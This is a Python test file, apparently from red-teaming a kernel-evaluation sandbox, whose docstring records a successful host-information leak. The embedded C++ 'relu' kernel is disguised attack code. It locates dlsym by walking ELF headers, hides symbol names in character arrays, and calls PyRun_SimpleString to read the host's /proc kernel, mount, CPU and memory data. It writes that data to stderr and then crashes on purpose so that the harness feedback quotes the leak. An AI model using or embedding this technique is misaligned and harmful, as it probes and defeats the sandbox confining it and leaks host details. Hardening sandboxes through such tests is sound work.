"""Class 6 (host information in feedback), via the py_run primitive.

Trick: native code reaches PyRun_SimpleString (attacks/prelude_py_run.cpp, see c1_native/elf_walk_to_python) and
the Python it runs reads what the sandbox's /proc shows of the host: the kernel version and build host
(/proc/version), the mount table (the container's overlay layers, device names), the CPU model, the host's memory
size, bubblewrap's command line (/proc/1/cmdline) and uname; it prints them to stderr, then the kernel crashes
(null store) so the verdict quotes stderr.
Expected: host information that is none of the scrubbed prefixes appears in the feedback.
Answered (final run, 2026-11-28): `runtime` (the crash), feedback quotes the host's 'Linux version 6.18.44-fc-v657 (builder@sandboxing) ...', the CPU model and MemTotal (SUCCEEDED).
"""
import torch
import torch.nn as nn

from evokernel.cpu import load_cpp

SRC = r"""
#include <cstdint>
#include <cstring>

struct Ehdr { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff;
              uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Phdr { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dyn { int64_t tag; uint64_t val; };
struct Sym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };

static uintptr_t elf_base(uintptr_t p) {
    p &= ~(uintptr_t)4095;
    for (int i = 0; i < 200000; ++i, p -= 4096)
        if (memcmp((const void*)p, "\x7f" "ELF", 4) == 0) return p;
    return 0;
}

static void* find_sym(uintptr_t base, const char* want) {
    const Ehdr* eh = (const Ehdr*)base;
    const Phdr* ph = (const Phdr*)(base + eh->phoff);
    const Dyn* dyn = nullptr;
    for (int i = 0; i < eh->phnum; ++i) if (ph[i].type == 2) dyn = (const Dyn*)(base + ph[i].vaddr);
    if (!dyn) return nullptr;
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn->tag; ++dyn) { if (dyn->tag == 6) symtab = dyn->val; if (dyn->tag == 5) strtab = dyn->val; }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    for (const Sym* s = (const Sym*)symtab; (uintptr_t)s < strtab; ++s)
        if (s->value && strcmp((const char*)(strtab + s->name), want) == 0) return (void*)(base + s->value);
    return nullptr;
}

static char* put_hex(char* o, uint64_t v) {
    *o++ = '0'; *o++ = 'x';
    for (int sh = 60; sh >= 0; sh -= 4) *o++ = "0123456789abcdef"[(v >> sh) & 15];
    return o;
}
static char* put_dec(char* o, int64_t v) {
    char tmp[24]; int n = 0;
    do { tmp[n++] = char('0' + v % 10); v /= 10; } while (v);
    while (n) *o++ = tmp[--n];
    return o;
}
static char* put_str(char* o, const char* s) { while (*s) *o++ = *s++; return o; }

typedef void* (*lookup_t)(void*, const char*);
typedef int (*gil_ensure_t)();
typedef void (*gil_release_t)(int);
typedef int (*run_t)(const char*);


static int py_run(const char* code) {
    static run_t run = nullptr; static gil_ensure_t ensure = nullptr; static gil_release_t release = nullptr;
    if (!run) {
        uintptr_t libc = elf_base((uintptr_t)&strlen);
        const char nm[] = {'d', 'l', 's', 'y', 'm', 0};
        lookup_t look = libc ? (lookup_t)find_sym(libc, nm) : nullptr;
        if (!look) return -2;
        const char e[] = {'P','y','G','I','L','S','t','a','t','e','_','E','n','s','u','r','e',0};
        const char r[] = {'P','y','G','I','L','S','t','a','t','e','_','R','e','l','e','a','s','e',0};
        const char s[] = {'P','y','R','u','n','_','S','i','m','p','l','e','S','t','r','i','n','g',0};
        ensure = (gil_ensure_t)look(nullptr, e);
        release = (gil_release_t)look(nullptr, r);
        run = (run_t)look(nullptr, s);
        if (!run || !ensure || !release) { run = nullptr; return -3; }
    }
    int g = ensure();
    int rc = run(code);
    release(g);
    return rc;
}

extern "C" void relu(const float* x, float* y, int64_t n) {
    py_run("import sys, os\nparts = []\nP = chr(47) + 'proc' + chr(47)\nkeys = ('overlay', 'model name', 'Linux version', 'MemTotal', 'hypervisor', ' / / ')\nfor f in (P + 'version', P + 'self/mountinfo', P + 'cpuinfo', P + 'meminfo'):\n    try:\n        for line in open(f, 'rb').read(200000).decode('latin1').splitlines():\n            if any(k in line for k in keys) and line[:300] not in parts:\n                parts.append(line[:300])\n    except Exception as e:\n        parts.append(f + ': ' + repr(e))\nparts.append('uname: ' + repr(os.uname()))\nsys.stderr.write(chr(10).join(parts[-8:]) + chr(10))\nsys.stderr.flush()\n");
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0 ? x[i] : 0.0f;
    if (n > 0) *(volatile float*)nullptr = 1.0f;
}
"""

lib = load_cpp(SRC)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        lib.relu(x, out, x.numel())
        return out
